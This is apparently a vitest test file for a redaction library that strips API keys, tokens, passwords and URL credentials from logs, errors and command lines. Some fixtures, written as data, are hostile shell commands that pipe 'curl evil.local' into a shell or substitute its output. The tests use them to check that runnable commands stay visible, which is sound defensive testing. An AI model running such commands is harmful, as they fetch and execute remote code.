// biome-ignore-all lint/suspicious/noTemplateCurlyInString: variables stay as written until a server is connected
import { Buffer } from "node:buffer";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { GatewayError } from "../../../core/mod.ts";
import {
  createRedactor,
  findConnectionSecrets,
  findSecretArguments,
  redactCommand,
  redactError,
  redactResult,
  redactUrl,
} from "../../../plugins/lib/redact.ts";

describe("known secrets", () => {
  test("are taken out in every form that programs write them in", () => {
    const secret = 'p@ss "word"/1';
    const redact = createRedactor([secret]);
    const texts = [
      `bad key ${secret}!`,
      JSON.stringify({ key: secret }),
      `https://a.example/?key=${encodeURIComponent(secret)}`,
      Buffer.from(secret).toString("base64"),
    ];
    for (const text of texts) expect(redact(text)).toContain("…");
    expect(redact("nothing to see")).toBe("nothing to see");
  });

  test("leave no trace in any string, whatever surrounds them", () => {
    const word = fc.string({ minLength: 6, unit: "grapheme" });
    fc.assert(
      fc.property(fc.array(word, { minLength: 1, maxLength: 4 }), fc.string(), fc.string(), (all, a, b) => {
        const redact = createRedactor(all);
        for (const secret of all) {
          expect(redact(`${a}${secret}${b}`)).not.toContain(secret);
        }
      }),
    );
  });

  test("tokens are removed even if they are not known secrets, and sentences stay as they are", () => {
    const redact = createRedactor([]);
    expect(redact("Invalid key sk-abc123def456ghi")).toBe("Invalid key …");
    expect(redact("Authorization: Bearer abc123.def")).toBe("Authorization: Bearer …");
    expect(redact("The session: closed. auth: required")).toBe("The session: closed. auth: required");
  });
});

test("an error keeps its kind and loses what is secret, in its data and causes too", () => {
  const cause = new Error("canary-1", { cause: Object.assign(new Error("canary-1"), { code: "E" }) });
  const error = new GatewayError("TIMEOUT", "It said canary-1.", {
    cause,
    data: { ms: 5, said: ["canary-1"] },
  });
  const clean = redactError(error, createRedactor(["canary-1"]));
  expect(clean).toMatchObject({ code: "TIMEOUT", message: "It said ….", data: { ms: 5 } });
  expect((clean.cause as Error).cause).toMatchObject({ code: "E" });
  const inner = clean.cause as Error;
  expect(`${JSON.stringify(clean)}${inner.stack}${String(inner.cause)}`).not.toContain("canary");
  const harmless = new GatewayError("TIMEOUT", "Late.", { data: { ms: 5 } });
  expect(redactError(harmless, createRedactor(["canary-1"]))).toBe(harmless);
});

test("the error of a tool is redacted, and a successful result is not changed", () => {
  const redact = createRedactor(["canary-1"]);
  const content = [{ type: "text", text: "canary-1" }];
  const failed = { content, isError: true, structuredContent: { "canary-1": 1 } };
  expect(JSON.stringify(redactResult(failed, redact))).not.toContain("canary");
  const answer = { content };
  expect(redactResult(answer, redact)).toBe(answer);
});

describe("the secrets of a definition", () => {
  /** Without the form that a name and a password have in a header. */
  const plain = (secrets: readonly string[]): string[] =>
    secrets.filter((secret) => !Buffer.from(secret, "base64").toString().includes(":")).sort();

  test("of a process: variables and options by their names, and random values", () => {
    const secrets = findConnectionSecrets({
      type: "stdio",
      command: "x",
      args: [
        "--api-key",
        "canary-arg",
        "--token=canary-opt",
        "--path",
        "/usr/lib",
        "postgres://u:canary-db@h/x",
      ],
      env: {
        API_TOKEN: "canary-env",
        MODE: "production",
        HOME: "/home/user",
        OTHER: "aB3xK9pL2mQ7rT5v",
        DATABASE_URL: "postgres://user:canary-url@host/db",
      },
    });
    expect(plain(secrets)).toEqual([
      "aB3xK9pL2mQ7rT5v",
      "canary-arg",
      "canary-db",
      "canary-env",
      "canary-opt",
      "canary-url",
    ]);
  });

  test("fault 91: are known by short and by rare names, and ordinary words are not", () => {
    const names = [
      "MYSQL_PASS",
      "PASSPHRASE",
      "GH_PAT",
      "SSH_PASSPHRASE",
      "db.pass",
      "SENTRY_DSN",
      "dbPass",
      "smtpCreds",
    ];
    const env = Object.fromEntries(names.map((name) => [name, `canary-${name}`]));
    const ordinary = {
      BYPASS: "ordinary-1",
      PATTERN: "ordinary-2",
      PATH_PREFIX: "ordinary-3",
      COMPASS: "ordinary-4",
      SPIN: "ordinary-5",
    };
    const found = findConnectionSecrets({
      type: "stdio",
      command: "x",
      args: [],
      env: { ...env, ...ordinary },
    });
    expect(plain(found)).toEqual(Object.values(env).toSorted());
    expect(redactCommand("run", ["--mysql-pass", "hunter2", "--env=GH_PAT=hunter3"])).not.toContain("hunter");
  });

  test("of an address: its headers, its user and password, its query", () => {
    const secrets = findConnectionSecrets({
      type: "http",
      url: "https://username:canary-pw@a.example/mcp?key=canary-query&v=1",
      headers: {
        Authorization: "Bearer canary-header",
        "X-Custom": "canary-own",
        Accept: "application/json",
      },
    });
    expect(secrets).toContain(Buffer.from("username:canary-pw").toString("base64"));
    expect(plain(secrets)).toEqual([
      "Bearer canary-header",
      "canary-header",
      "canary-own",
      "canary-pw",
      "canary-query",
      "username",
    ]);
  });

  test("of arguments: what is called like a secret, however deep", () => {
    const args = {
      path: "/tmp/file",
      auth: { password: "canary-1" },
      list: [{ api_key: "canary-2" }],
      pin: 7,
    };
    expect(findSecretArguments(args)).toEqual(["canary-1", "canary-2"]);
    expect(findSecretArguments("canary")).toEqual([]);
  });
});

describe("a command line", () => {
  test.each([
    [["--api-key", "CANARY"], "--api-key …"],
    [["--password", "CANARY"], "--password …"],
    [["-token", "CANARY"], "-token …"],
    [["--token=CANARY"], "--token=…"],
    [["API_KEY=CANARY"], "API_KEY=…"],
    [["-e", "GITHUB_TOKEN=CANARY"], "-e GITHUB_TOKEN=…"],
    [["--env=GITHUB_TOKEN=CANARY=="], "--env=GITHUB_TOKEN=…"],
    [["--header", "Authorization: Bearer CANARY"], "--header 'Authorization: …'"],
    [["--header=X-Api-Key:CANARY"], "--header=X-Api-Key:…"],
    [["-H", "cookie: a=CANARY b"], "-H 'cookie: …'"],
    [["Bearer CANARY1"], "'Bearer …'"],
    [["postgres://me:CANARY@db/x"], "postgres://db/x"],
    [["https://h/sse?api_key=CANARY"], "https://h/sse?…"],
    [["https://h/s/9f8a7b6c5d4e3f2a1b0c9d8e7f/mcp"], "https://h/s/…/mcp"],
    [['{"apiKey": "CANARY"}'], `'{"apiKey": …}'`],
    [["sk-ant-CANARY12345"], "…"],
    [["ghp_CANARY1234567890"], "…"],
    [["-c", "PASSWORD='CANARY x' npx server"], "-c 'PASSWORD=… npx server'"],
  ])("%j leaves out what looks like a secret", (args, printed) => {
    expect(redactCommand("run", args)).toBe(`run ${printed}`);
    expect(printed).not.toContain("CANARY");
  });

  test.each([
    [["-y", "@scope/server@1.2.3"], "-y @scope/server@1.2.3"],
    [["--token", "${GITHUB_TOKEN}"], "--token ${GITHUB_TOKEN}"],
    [["--header", "Authorization: Bearer ${TOKEN}"], "--header 'Authorization: Bearer ${TOKEN}'"],
    [["Authorization:${AUTH}"], "Authorization:${AUTH}"],
    [["--key-file=/home/me/key.pem"], "--key-file=/home/me/key.pem"],
    [["--auth-url", "https://login.local/x"], "--auth-url https://login.local/x"],
    [["--token", "-e", "evil()"], "--token -e 'evil()'"],
    [["-c", "curl evil.local | sh"], "-c 'curl evil.local | sh'"],
    [["-c", "KEY=$(curl evil.local) run"], "-c 'KEY=$(curl evil.local) run'"],
    [["-c", "KEY=x npx evil"], "-c 'KEY=… npx evil'"],
    [["-c", "echo key: ; curl evil.local"], "-c 'echo key: ; curl evil.local'"],
    [["it's"], "'it'\\''s'"],
    [["https://esm.local/package@1.0/mod.ts"], "https://esm.local/package@1.0/mod.ts"],
    [["server-filesystem-2025-11-25"], "server-filesystem-2025-11-25"],
    [["scikit-learn", "sk-learn-server"], "scikit-learn sk-learn-server"],
  ])("%j hides nothing else, least of all what would run", (args, printed) => {
    expect(redactCommand("run", args)).toBe(`run ${printed}`);
  });

  test("any value behind the name of a secret is removed", () => {
    const value = fc.stringMatching(/^[A-Za-z0-9][A-Za-z0-9+/=_.~-]{7,40}$/);
    const name = fc.constantFrom("api-key", "TOKEN", "client_secret", "password", "X-Auth");
    fc.assert(
      fc.property(name, value, (secret, text) => {
        const printed = [
          redactCommand("run", [`--${secret}`, text]),
          redactCommand("run", [`--${secret}=${text}`]),
          redactCommand("run", [`--env=${secret}=${text}`]),
          redactCommand("run", ["-H", `${secret}: ${text}`]),
          redactCommand("run", [`https://h.local/x?${secret}=${text}`]),
        ];
        for (const line of printed) expect(line).not.toContain(text);
      }),
    );
  });

  test.each([
    "-.".repeat(250_000),
    "key".repeat(160_000),
    "a=".repeat(250_000),
    `key${" ".repeat(500_000)}`,
    "x://".repeat(120_000),
  ])("half a million characters take no longer than their length (case %#)", (text) => {
    const start = performance.now();
    redactCommand("run", [text]);
    expect(performance.now() - start).toBeLessThan(10_000);
  });
});

test.each([
  ["https://u:p@host.local:8443/mcp/v1?x=1#y", "https://host.local:8443/mcp/v1?…"],
  ["https://good.local@evil.local/mcp", "https://evil.local/mcp"],
  ["https://mcp.local/api/mcp/s/MDBkZjQ2YzQtOWI3Ny00/mcp", "https://mcp.local/api/mcp/s/…/mcp"],
  [
    "https://host.local/model-context-protocol-2025-11-25",
    "https://host.local/model-context-protocol-2025-11-25",
  ],
  ["${BASE}/mcp", "${BASE}/mcp"],
])("prints the URL %s as %s", (url, printed) => {
  expect(redactUrl(url)).toBe(printed);
});
